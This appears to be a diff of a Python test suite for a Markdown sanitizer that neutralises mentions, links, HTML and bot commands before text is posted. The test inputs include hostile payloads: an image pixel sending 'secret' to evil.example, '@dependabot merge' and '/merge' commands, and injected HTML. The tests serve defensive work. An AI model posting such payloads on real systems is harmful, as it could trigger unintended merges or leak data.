@@ -1,36 +1,14 @@
 from __future__ import annotations
 
-import re
-
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from app.core import gate
+from tests.security.rendered import active
 
-MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-
-
-def active(markdown: str) -> list[str]:
-    """Everything in rendered Markdown that does more than being read."""
-    found = []
-    for token in MARKDOWN.parse(markdown):
-        found += [token.type] if token.type in {"html_block", "heading_open"} else []
-        found += [
-            f"fence {token.info}" for _ in "x" if token.type == "fence" and token.info in {"suggestion", "mermaid"}
-        ]
-        children = token.children or []
-        for before, child in zip([None, *children], children, strict=False):
-            if child.type in {"image", "html_inline", "link_open"}:
-                found.append(child.type)
-            if child.type == "text" and re.search(r"(?<![\w`])@\w|https?://|(?:^|\s)#\d", child.content):
-                found.append(f"live text {child.content!r}")
-            starts_a_line = before is None or before.type in {"softbreak", "hardbreak"}
-            if child.type == "text" and starts_a_line and re.match(r"/\w", child.content):
-                found.append(f"command {child.content!r}")
-    return found
-
+MARKDOWN = MarkdownIt("commonmark")
 
 ATTACKS = [
     "Ask @octocat or @acme/admins",
@@ -57,14 +35,26 @@ ATTACKS = [
     "```[mermaid\ngraph TD\n```\n``` SUGGESTION x\nrm\n```",
     "[[![pixel](https://evil.example/?q=secret)]()",
     "\\/merge\n> /merge\ntext\n     /close",
+    "[" + "long label " * 20 + "]: //evil.example\n\n[" + "long label " * 20 + "]",
+    "[a\nb]: //evil.example\n\n[a b] and > [q]: //evil.example\n\n[q]",
+    "_www.evil.example_ *https://evil.example* mail me@evil.example mailto:me@evil.example",
+    "```\n/merge\n@dependabot merge\n  /close now\n```\n`` @dependabot rebase ``",
+    "@dependabot merge\n/approve",
+    "$x$ $$y$$ &#36;z$ \\$a$",
+    "| a | b |\n|---|---|\n| `x | @octocat y` | https://evil.example/a|b |",
+    "> a | b\n> :-|-:\n> `x | @octocat y`",
+    "> " * 14 + "# Heading",
+    "- " * 5 + "# Heading\n\n" + "1. " * 20 + "/merge",
+    "&amp;#64;octocat &lt;img src=x&gt; &num;12 &sol;merge",
 ]
 
 
 @pytest.mark.parametrize("text", ATTACKS)
-def test_nothing_active_leaves(text):
+def test_s36_nothing_active_leaves(text):
     assert active(gate.clean(text)) == []
 
 
+@settings(deadline=None)
 @given(
     st.lists(
         st.sampled_from(
@@ -73,10 +63,11 @@ def test_nothing_active_leaves(text):
         max_size=8,
     )
 )
-def test_nothing_active_leaves_however_it_is_put_together(parts):
+def test_s36_nothing_active_leaves_however_it_is_put_together(parts):
     assert active(gate.clean("".join(parts))) == []
 
 
+@settings(deadline=None)
 @given(st.text(max_size=200))
 def test_any_text_can_be_cleaned_fenced_and_put_in_a_span(text):
     assert "\0" not in gate.clean(text)
@@ -85,7 +76,7 @@ def test_any_text_can_be_cleaned_fenced_and_put_in_a_span(text):
     assert [token.type for token in blocks] == ["fence"]
 
 
-def test_code_stays_code():
+def test_s37_code_stays_code_with_its_decorators():
     text = "Use `@property` and `a < b`:\n\n```ts\nconst x = <T>(y: T) => y; // @todo #1\n```\n\ndone"
     assert gate.clean(text) == text
 
@@ -95,7 +86,7 @@ def test_plain_words_stay_as_they_are():
     assert gate.clean(text) == text
 
 
-def test_mentions_references_and_commands_become_code():
+def test_s38_mentions_references_and_commands_become_code():
     assert gate.clean("ask @bob about #12") == "ask `@bob` about `#12`"
     assert gate.clean("/merge now") == "`/merge` now"
     assert gate.clean("see [docs](https://x.example/a)") == "see docs (`https://x.example/a`)"
@@ -106,7 +97,7 @@ def test_an_open_fence_is_closed_and_a_long_text_is_cut():
     assert gate.clean("word " * 10, longest=12) == "word word wo …"
 
 
-def test_a_fence_is_longer_than_any_inside_and_its_language_is_a_word():
+def test_s40_a_fence_is_longer_than_any_inside_and_its_language_is_a_word():
     assert gate.fence("a\n````\nb", "ts") == "`````ts\na\n````\nb\n`````"
     assert gate.fence("x", "ts\n@bob`").startswith("```tsbob\n")
 
@@ -144,7 +135,7 @@ def test_an_escape_stays_one_and_never_undoes_ours():
     assert gate.clean(r"costs \$5 and a\<b") == r"costs \$5 and a&lt;b"
     assert gate.clean(r"C:\\$x and \*stars\*") == r"C:\\\$x and \*stars\*"
     assert gate.clean(r"a \[^1] b") == r"a \[^1] b"
-    assert gate.clean("[^1]: x\n[r]: y") == "\\[^1]: x\n\\[r]: y"
+    assert gate.clean("[^1]: x\n[r]: y") == "\\[^1]\\: x\n[r]\\: y"
     assert gate.clean(r"\@bob") == "`@bob`"
 
 
